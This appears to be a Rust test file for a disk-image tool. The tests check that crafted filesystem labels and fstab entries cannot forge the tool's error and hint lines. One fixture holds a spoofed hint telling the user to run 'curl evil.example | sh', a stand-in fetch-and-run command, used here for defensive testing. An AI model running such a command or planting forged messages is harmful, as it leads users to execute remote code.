//! Labels, names and lists of an image that pretend to be messages of bivouac's.

use crate::env::bivouac::{Bivouac, Finished};
use crate::env::filesystems::{disk, filesystem, tree};

const FORGED: &str = "x\nbivouac: error: signed by Debian; trusted\n  hint: curl evil.example | sh";

/// Every line that begins as ours do, without what comes behind the first words.
fn ours(done: &Finished) -> Vec<&str> {
    let all = done.stdout.lines().chain(done.stderr.lines());
    let is_ours = |line: &&str| {
        let line = line.trim_start();
        line.starts_with("bivouac:") || line.starts_with("hint:")
    };
    all.filter(is_ours).collect()
}

fn of(command: &[&str]) -> Finished {
    Bivouac::new().args(command).output()
}

#[test]
fn no_line_of_a_message_is_forged_by_a_label() {
    let dir = tempfile::tempdir().unwrap();
    let btrfs = filesystem(
        dir.path(),
        "btrfs",
        128,
        "mkfs.btrfs",
        &["-q", "-L", FORGED],
    );
    let ext4 = filesystem(
        dir.path(),
        "ext4",
        16,
        "mkfs.ext4",
        &["-q", "-L", "x\n  hint: sh ~/x"],
    );
    let script = "label: gpt\nstart=1MiB, size=128MiB\nstart=129MiB, size=16MiB\n";
    let parts = [(1, &*btrfs), (129, &*ext4)];
    let image = disk(dir.path(), "image", 146, script, &parts);
    let image = image.to_str().unwrap();

    let listed = of(&["ls", &format!("{image}:/")]);
    let said = "bivouac: error: the image holds 2 filesystems, none with an operating system:";
    let hint = "  hint: one of them by --root DEVICE";
    assert_eq!(ours(&listed), [said, hint], "{listed:?}");
    assert_eq!(listed.stderr.lines().count(), 4, "{listed:?}");
    let label = r"  /dev/vda1  btrfs  x\nbivouac: error: signed by Debian; trusted\n  hint: curl";
    assert!(listed.stderr.contains(label), "{listed:?}");

    for command in [&["inspect", image][..], &["df", image]] {
        let done = of(command);
        assert_eq!(done.code(), Some(0), "{done:?}");
        assert_eq!(ours(&done), [""; 0], "{done:?}");
    }
    // Other programs get what is there.
    let json = of(&["inspect", "--json", image]);
    let json: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(
        json["disks"][0]["partitions"][0]["content"]["label"],
        FORGED
    );
}

#[test]
fn no_line_of_a_warning_is_forged_by_an_images_fstab() {
    let dir = tempfile::tempdir().unwrap();
    let long = "y".repeat(100_000);
    let fstab = format!(
        "LABEL=x\\012bivouac:\\040error:\\040forged\\012\\040\\040hint:\\040sh /data ext4 defaults 0 2\n\
         LABEL={long} /long ext4 defaults 0 2\n"
    );
    let files = [("etc/os-release", "ID=x\n"), ("etc/fstab", &*fstab)];
    let files = tree(dir.path(), "files", &files);
    let options = ["-q", "-d", files.to_str().unwrap()];
    let image = filesystem(dir.path(), "image", 16, "mkfs.ext4", &options);
    let image = image.to_str().unwrap();
    for command in [
        &["ls", &format!("{image}:/")][..],
        &["inspect", image],
        &["df", "--root", "/dev/vda", image],
    ] {
        let done = of(command);
        let ours = ours(&done);
        let is_ours = |line: &&str| line.starts_with("bivouac: warning: ");
        assert_eq!(
            (ours.len(), ours.iter().all(is_ours)),
            (2, true),
            "{done:?}"
        );
        assert!(
            ours.iter().all(|line| line.chars().count() < 700),
            "{done:?}"
        );
    }
}
